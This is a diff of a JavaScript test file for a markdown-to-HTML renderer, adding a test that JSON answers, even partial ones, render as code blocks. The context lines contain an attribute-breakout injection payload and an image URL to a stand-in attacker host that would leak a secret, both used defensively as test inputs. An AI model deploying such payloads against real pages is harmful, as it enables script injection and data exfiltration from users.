@@ -25,6 +25,11 @@ test("an address cannot break out of its attribute", () => {
   assert.doesNotMatch(htmlOf('[x](<https://example.org/"onmouseover="alert(1)>)'), /"onmouseover/)
 })
 
+test("an answer that is data is shown as data, while it comes too", () => {
+  for (const data of ['{"dates": ["*2026*"]}', '{\n  "emails": ["ann@']) assert.match(htmlOf(data), /^<div class="code">/)
+  assert.doesNotMatch(htmlOf("{name} is a placeholder"), /class="code"/)
+})
+
 test("images are named, not loaded", () => {
   const html = htmlOf("![A chart](https://evil.example/log?q=secret)")
 
